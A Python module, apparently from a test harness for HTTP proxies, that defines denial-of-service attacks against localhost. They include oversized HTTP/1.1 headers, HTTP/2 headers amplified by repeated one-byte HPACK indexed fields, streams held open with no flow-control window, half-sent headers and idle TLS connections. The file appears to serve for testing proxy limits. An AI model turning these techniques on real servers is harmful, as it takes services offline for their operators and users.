"""Heads that are large, or that HPACK makes large out of few bytes."""

import contextlib

from attacks import http2, repeat
from attacks.connection import CUT, Connection
from kit.tls import client_context

# A head below the limits of both proxies: bytes of HTTP/1.1, fields of HTTP/2.
FILLER, FIELDS = 250, 60
H1 = "".join(f"X-{number}: {'x' * FILLER}\r\n" for number in range(FIELDS))
# A dynamic table's newest field is number 62, one byte.
REPEATED = b"\xbe"
FEW, MANY = 100, 1900
STREAMS = 128
NO_WINDOW = http2.INITIAL_WINDOW_SIZE + bytes(4)
TLS = client_context("http/1.1")


def http1(port, seconds):
    """Whole heads of 16 KB on one connection after the other, refused for want of a password."""
    return repeat(seconds, lambda: refused(port))


def refused(port):
    try:
        with Connection(port, TLS) as connection:
            for _ in range(50):
                connection.send(f"GET / HTTP/1.1\r\nHost: localhost\r\n{H1}\r\n".encode())
                if not connection.receive():
                    break
            return connection.sent()
    except CUT:
        return 0


def http2_repeated(fields):
    """An attack with heads that repeat one field, a byte each."""
    return lambda port, seconds: repeat(seconds, lambda: streams(port, fields))


def streams(port, fields):
    with contextlib.ExitStack() as kept:
        connection = hold_streams(kept, port, fields, b"")
        return connection.sent() if connection else 0


def hold_streams(kept, port, fields, settings=NO_WINDOW):
    """A connection with a request on each stream, whose answers it gives no window."""
    try:
        connection = kept.enter_context(http2.opened(port, settings))
        connection.send(http2.request(1, fields=http2.indexed("a", "b") + REPEATED * fields))
        connection.send(b"".join(
            http2.request(2 * number + 1, fields=REPEATED * fields)
            for number in range(1, STREAMS)
        ))
        connection.drain()
        return connection
    except CUT:
        return None


def hold_half_head(kept, port):
    """A connection with the first 60 KB of a head."""
    connection = kept.enter_context(Connection(port, TLS))
    connection.try_send(b"GET / HTTP/1.1\r\nHost: localhost\r\nCookie: " + b"x" * 60_000)
    return connection


def hold_handshake(kept, port):
    """A connection that says nothing after its handshake."""
    return kept.enter_context(Connection(port, TLS))
